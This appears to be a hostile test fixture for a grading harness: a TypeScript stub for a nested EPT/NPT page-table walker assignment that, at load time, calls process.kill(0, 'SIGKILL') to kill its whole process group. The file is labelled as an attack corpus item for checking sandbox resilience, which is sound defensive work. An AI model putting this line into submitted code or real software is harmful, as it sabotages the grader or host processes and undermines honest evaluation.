// @ts-nocheck
// Hostile corpus, kind kill-process-group: process.kill(0, 'SIGKILL') at load: the child's whole process group.
import { NestedWalker } from '../../reference/nested/nested-walker';

// ---- attack ----
try { process.kill(0, 'SIGKILL'); } catch {}

/**
 * Your two-dimensional walk under EPT or NPT (the assignment's README says
 * exactly what to do): every guest-physical address the guest walk touches,
 * and the final one, goes through the nested tables; return the references
 * in hardware order, the A/D writes and the fault.
 */
export const nestedWalker: NestedWalker = {
  walk(_request, _hostMemory, _guestWalker) {
    throw new Error('not implemented: nestedWalker');
  },
};
